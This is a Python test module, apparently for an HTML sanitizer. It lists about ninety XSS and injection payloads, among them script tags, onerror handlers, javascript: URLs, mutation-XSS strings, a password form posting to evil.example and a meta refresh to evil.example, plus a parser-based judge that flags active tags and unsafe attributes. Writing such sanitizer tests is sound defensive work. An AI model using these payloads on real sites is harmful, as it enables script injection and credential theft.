"""Pages that try to run, load, or hide something, and a judge of what came out."""

from html.parser import HTMLParser

PAGES = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.gif'>", "<img src=//evil.example/p>", "<img srcset='http://evil.example/p 2x'>",
    "<img src=cid:part1 onload=alert(1)>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>", "<img lowsrc=http://evil.example/>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><use href='http://evil.example/#x'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>", "<math><mi xlink:href='data:text/html,x'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>", "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml-stylesheet href='http://evil.example/'?>", "<style>@import 'http://evil.example/x.css';</style>",
    "<style>body{background:url(http://evil.example/)}</style>", "<div style='background:url(http://evil.example/)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>", "<div style='behavior:url(#x)'>x</div>", "<p style='position:fixed;top:0'>cover</p>",
    "<link rel=stylesheet href=http://evil.example/x.css>", "<link rel=prefetch href=http://evil.example/>", "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href='http://evil.example/'><a href='x'>y</a>", "<form action='http://evil.example/'><input name=password><button>Send</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>", "<input type=image src=http://evil.example/ onfocus=alert(1) autofocus>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src='http://evil.example/'></iframe>", "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<object data='http://evil.example/x.swf'></object>", "<embed src='http://evil.example/x.swf'>", "<applet code=x></applet>",
    "<video src='http://evil.example/v'><source src='http://evil.example/w' onerror=alert(1)></video>", "<audio src='http://evil.example/a' autoplay></audio>",
    "<body background='http://evil.example/b.gif' onload=alert(1)>x</body>", "<table background='http://evil.example/b'><td background='//evil.example/c'>x",
    "<a href='javascript:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='file:///etc/passwd'>x</a>", "<a href='//evil.example/'>x</a>",
    "<a href='http://good.example/' target=_top ping='http://evil.example/' onclick=alert(1)>x</a>", "<a href='/users/1/delete'>x</a>", "<a href='https://x\"onmouseover=alert(1) y'>x</a>",
    "<a href='http://evil.example/'><a href='http://good.example/'>nested</a></a>", "<a href='http://evil.example/' title='\" onclick=alert(1)'>x</a>",
    "<a name=location id=cookie>clobber</a><img name=getElementById>", "<details open ontoggle=alert(1)>x", "<marquee onstart=alert(1)>x</marquee>", "<isindex action=javascript:alert(1)>",
    "<template><img src=x onerror=alert(1)></template>", "<select><template><img src=x onerror=alert(1)></template></select>", "<p><svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<img src='cid:x\" onerror=\"alert(1)'>", "<img alt='<a href=\"http://evil.example/\" onclick=x>' src=x>", "<p lang='\"><script>alert(1)</script>'>x", '<a href="http://e.example/<script>">x</a>',
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>", "<sc<script>ript>alert(1)</script>", "<<script>alert(1)//<</script>", "<img\x0csrc=x\x0conerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<div>" * 3000 + "<img src=x onerror=alert(1)>", "<p" * 5000, "<!--" * 5000, "\ud800<b>half</b>",
)  # fmt: skip

ALLOWED_URLS = {"href": ("http://", "https://", "mailto:"), "src": ("/data/",)}
ACTIVE = {"script", "style", "svg", "math", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button", "select",
          "textarea", "link", "meta", "base", "video", "audio", "source", "template", "noscript", "title", "isindex", "marquee", "html", "body", "head"}  # fmt: skip
CARRYING = {
    "style",
    "srcset",
    "srcdoc",
    "background",
    "action",
    "formaction",
    "ping",
    "data",
    "poster",
    "lowsrc",
    "xlink:href",
    "id",
    "name",
    "class",
    "code",
    "http-equiv",
}


class Judge(HTMLParser):
    """Collects everything in a page that would run, load, send, or cover."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attributes):
        if tag in ACTIVE:
            self.found.append(f"<{tag}>")
        for name, value in attributes:
            if name.startswith("on") or name in CARRYING:
                self.found.append(f"{tag} {name}")
            allowed = ALLOWED_URLS.get(name)
            if allowed and not (value or "").startswith(allowed):
                self.found.append(f"{tag} {name}={value}")
        if tag == "a":
            given = dict(attributes)
            if "href" in given and ("noopener" not in given.get("rel", "") or given.get("title") != given["href"]):
                self.found.append(f"a link without rel or title: {given}")

    def handle_comment(self, data):
        self.found.append("comment")

    def handle_decl(self, decl):
        self.found.append("declaration")

    def handle_pi(self, data):
        self.found.append("processing instruction")

    def unknown_decl(self, data):
        self.found.append("unknown declaration")


def judged(page):
    """What is wrong with a page; nothing for a safe one."""
    judge = Judge()
    judge.feed(page)
    judge.close()
    return judge.found
